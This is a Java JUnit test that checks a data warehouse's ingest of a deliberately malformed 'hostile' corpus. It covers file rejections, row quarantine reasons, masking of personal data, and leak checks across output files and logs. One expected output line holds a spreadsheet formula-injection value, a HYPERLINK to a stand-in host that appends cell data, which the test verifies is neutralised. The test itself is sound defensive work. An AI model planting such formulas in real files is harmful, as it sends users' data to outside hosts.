package cn.zoucheng.warehouse.cli;

import static org.assertj.core.api.Assertions.assertThat;

import cn.zoucheng.warehouse.catalog.DuckDbCatalog;
import cn.zoucheng.warehouse.schemas.tables.TableCatalog;
import cn.zoucheng.warehouse.schemas.tables.WarehouseTable;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.sql.Connection;
import java.sql.DriverManager;
import java.sql.PreparedStatement;
import java.sql.ResultSet;
import java.sql.SQLException;
import java.sql.Statement;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.TreeMap;
import java.util.TreeSet;
import java.util.stream.Stream;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.io.TempDir;

/**
 * The whole hostile corpus ({@link HostileCorpus}) ingested in one real run of {@code bin/warehouse
 * ingest}: it ends with exit 0, every file has its manifest row with rows read = loaded +
 * quarantined, every bad row its reason, and no clear personal value planted in the corpus is
 * anywhere a reader could find it: no Parquet file (decoded, or its bytes with their statistics),
 * no view, no other file of the warehouse, no log line, no output.
 */
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class HostileCorpusTest {
  static final String DAY = "2026-11-03/";

  HostileCorpus corpus;
  Path warehouse;
  WarehouseProcess.Result ingest;
  WarehouseProcess.Result sql;

  @BeforeAll
  void ingestTheCorpus(@TempDir Path tmp) throws Exception {
    corpus = new HostileCorpus(tmp).write();
    warehouse = tmp.resolve("warehouse");
    Path key = tmp.resolve("pii.key");
    Files.writeString(key, "hostile-corpus-key-0123456789");
    ingest =
        WarehouseProcess.run(
            Map.of(),
            "ingest",
            "--warehouse",
            warehouse.toString(),
            "--master",
            "local[2]",
            "--input",
            corpus.inbox.toString(),
            "--pii-key-file",
            key.toString());
    sql =
        WarehouseProcess.run(
            Map.of(),
            "sql",
            "--warehouse",
            warehouse.toString(),
            "--format",
            "csv",
            "SELECT case_id, agent_id, applicant_phone_masked FROM proxy_cases"
                + " WHERE case_id IN ('H1', 'H5', 'H6') ORDER BY case_id");
  }

  List<List<String>> query(String sql) throws SQLException {
    List<List<String>> rows = new ArrayList<>();
    try (Connection c = DuckDbCatalog.open(warehouse);
        Statement st = c.createStatement();
        ResultSet rs = st.executeQuery(sql)) {
      int n = rs.getMetaData().getColumnCount();
      while (rs.next()) {
        List<String> r = new ArrayList<>();
        for (int i = 1; i <= n; i++) {
          r.add(rs.getString(i));
        }
        rows.add(r);
      }
    }
    return rows;
  }

  @Test
  void theRunEndsWellAndEveryFileReconciles() throws Exception {
    assertThat(ingest.exitCode()).as(ingest.output()).isZero();
    assertThat(query("SELECT file FROM manifest").stream().map(r -> r.get(0)))
        .containsExactlyInAnyOrderElementsOf(corpus.entries);
    assertThat(
            query(
                "SELECT file FROM manifest"
                    + " WHERE rows_read IS DISTINCT FROM rows_loaded + rows_quarantined"))
        .isEmpty();
    List<List<String>> totals =
        query("SELECT sum(rows_read), sum(rows_loaded), sum(rows_quarantined) FROM manifest");
    assertThat(ingest.output())
        .contains(
            "rows read "
                + totals.get(0).get(0)
                + " = loaded "
                + totals.get(0).get(1)
                + " + quarantined "
                + totals.get(0).get(2));
  }

  @Test
  void everyFileHasItsStatusAndReason() throws Exception {
    Map<String, String> status = new TreeMap<>();
    for (List<String> r : query("SELECT file, status, coalesce(reason, '') FROM manifest")) {
      status.put(r.get(0), r.get(1) + " " + r.get(2));
    }
    assertThat(status)
        .containsEntry(DAY + "凫山街道_2026-10_proxy_cases.csv", "LOADED ")
        .containsEntry(DAY + "钢山街道_2026-10_proxy_cases.csv", "LOADED ")
        .containsEntry(DAY + "凫山街道_2026-10_expense_vouchers.csv", "LOADED ")
        .containsEntry(DAY + "凫山街道_2026-10_disputes.csv", "LOADED ")
        .containsEntry("2026-11-04/凫山街道_2026-10_disputes.csv", "REJECTED EMPTY_FILE")
        .containsEntry(DAY + "钢山街道_2026-10_disputes.csv", "LOADED ")
        .containsEntry("2026-11-05/钢山街道_2026-10_disputes.csv", "REJECTED EMPTY_REDELIVERY")
        .containsEntry(DAY + "千泉街道_2026-10_petitions.csv", "REJECTED EMPTY_FILE")
        .containsEntry(DAY + "中心店镇_2026-10_petitions.csv", "LOADED ")
        .containsEntry(DAY + "石墙镇_2026-10_petitions.csv", "REJECTED UNDECODABLE")
        .containsEntry(DAY + "大束镇_2026-10_suggestions.csv", "REJECTED EMPTY_FILE")
        .containsEntry(DAY + "郭里镇_2026-10_proxy_cases.xlsx", "LOADED ")
        .containsEntry(DAY + "田黄镇_2026-10_proxy_cases.xlsx", "REJECTED PARSE_FAILED")
        .containsEntry(DAY + "唐村镇_2026-10_proxy_cases.xlsx", "REJECTED UNREADABLE_XLSX")
        .containsEntry("2026-08-03/香城镇_2026-07_democratic_reviews.csv", "LOADED ")
        .containsEntry(DAY + "凫山街道_2026-10_disclosures.csv", "LOADED ")
        .containsEntry(DAY + "峄山镇_2026-10_disputes.csv", "REJECTED NOT_A_REGULAR_FILE")
        .containsEntry(DAY + "张庄镇_2026-10_proxy_cases.csv", "REJECTED LINK_OUT_OF_INBOX")
        .containsEntry(DAY + "城前镇_2026-10_disputes.csv", "REJECTED NOT_A_REGULAR_FILE")
        .containsEntry("2026-11-06", "REJECTED LINK_OUT_OF_INBOX")
        .containsEntry("_备份/凫山街道_2026-10_proxy_cases.csv", "SKIPPED SKIPPED_NAME")
        .containsEntry(DAY + ".~lock.凫山街道_2026-10_proxy_cases.csv#", "SKIPPED SKIPPED_NAME")
        .containsEntry(DAY + "~$郭里镇_2026-10_proxy_cases.xlsx", "SKIPPED SKIPPED_NAME")
        .containsEntry(".DS_Store", "SKIPPED SKIPPED_NAME")
        .containsEntry(DAY + "凫山街道10月台账.csv", "REJECTED BAD_FILE_NAME")
        .containsEntry(DAY + "凫山街道_2026-10_meetings.csv", "REJECTED UNKNOWN_RECORD_TYPE");
    // the empty re-deliveries deleted nothing
    assertThat(query("SELECT count(*) FROM disputes")).containsExactly(List.of("5"));
  }

  @Test
  void everyBadRowIsQuarantinedWithItsRowColumnAndReason() throws Exception {
    Set<String> quarantine = new TreeSet<>();
    for (List<String> r : query("SELECT file, source_row, bad_column, reason FROM quarantine")) {
      quarantine.add(String.join("|", r));
    }
    String fushan = DAY + "凫山街道_2026-10_proxy_cases.csv|";
    String gangshan = DAY + "钢山街道_2026-10_proxy_cases.csv|";
    String guoli = DAY + "郭里镇_2026-10_proxy_cases.xlsx|";
    assertThat(quarantine)
        .containsExactlyInAnyOrder(
            fushan + "3|column 20|TOO_MANY_CELLS",
            fushan + "4|service_item|UNKNOWN_ITEM",
            fushan + "5|channel|BAD_VALUE",
            fushan + "8|satisfaction|OUT_OF_RANGE",
            fushan + "9|accepted_on|BAD_DATE",
            fushan + "10|accepted_on|BAD_DATE",
            gangshan + "3|agent_id|UNTERMINATED_QUOTE",
            gangshan + "4|satisfaction|BAD_NUMBER",
            DAY + "凫山街道_2026-10_expense_vouchers.csv|3|amount|OUT_OF_RANGE",
            guoli + "3|satisfaction|FORMULA_WITHOUT_VALUE",
            guoli + "4|satisfaction|FORMULA_WITHOUT_VALUE",
            guoli + "3|accepted_on|BAD_DATE",
            "2026-08-03/香城镇_2026-07_democratic_reviews.csv|2|votes_excellent|OUT_OF_RANGE",
            DAY + "凫山街道_2026-10_disclosures.csv|2|period|BAD_DATE");
  }

  @Test
  void noClearPersonalValueIsAnywhereAReaderLooks() throws Exception {
    assertThat(corpus.planted).hasSizeGreaterThan(60);
    List<String> leaks = new ArrayList<>();
    List<Path> files;
    try (Stream<Path> s = Files.walk(warehouse)) {
      files = s.filter(Files::isRegularFile).toList();
    }
    assertThat(files).anyMatch(p -> p.toString().endsWith(".parquet"));
    // a plain DuckDB, not the catalogue: every file is decoded, whatever the catalogue allows
    try (Connection plain = DriverManager.getConnection("jdbc:duckdb:");
        Connection c = DuckDbCatalog.open(warehouse)) {
      for (Path p : files) {
        String bytes = new String(Files.readAllBytes(p), StandardCharsets.UTF_8);
        leaks.addAll(leaks(warehouse.relativize(p) + " (bytes)", bytes));
        if (p.toString().endsWith(".parquet")) {
          try (PreparedStatement st = plain.prepareStatement("SELECT * FROM read_parquet(?)")) {
            st.setString(1, p.toString());
            leaks.addAll(leaks(warehouse.relativize(p) + " (decoded)", everything(st)));
          }
        }
      }
      for (WarehouseTable t : TableCatalog.viewed()) {
        String view = t.view().orElseThrow();
        try (PreparedStatement st = c.prepareStatement("SELECT * FROM " + view)) {
          leaks.addAll(leaks("view " + view, everything(st)));
        }
      }
    }
    leaks.addAll(leaks("ingest output and logs", ingest.output()));
    leaks.addAll(leaks("sql output", sql.output()));
    assertThat(leaks).isEmpty();
  }

  @Test
  void formulasComeOutOfCsvAsTextAndFreeTextWithItsPhonesMasked() {
    assertThat(sql.exitCode()).as(sql.output()).isZero();
    assertThat(sql.output().lines())
        .containsSubsequence(
            "case_id,agent_id,applicant_phone_masked",
            "H1,A01,138****2222",
            "H5,电话139****3333,138****4444",
            "H6,\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1)\",");
  }

  private List<String> leaks(String where, String text) {
    List<String> found = new ArrayList<>();
    for (String v : corpus.planted) {
      if (text.contains(v)) {
        found.add(where + ": " + v);
      }
    }
    return found;
  }

  private static String everything(PreparedStatement st) throws SQLException {
    StringBuilder sb = new StringBuilder();
    try (ResultSet rs = st.executeQuery()) {
      int n = rs.getMetaData().getColumnCount();
      while (rs.next()) {
        for (int i = 1; i <= n; i++) {
          sb.append(rs.getString(i)).append('\n');
        }
      }
    }
    return sb.toString();
  }
}
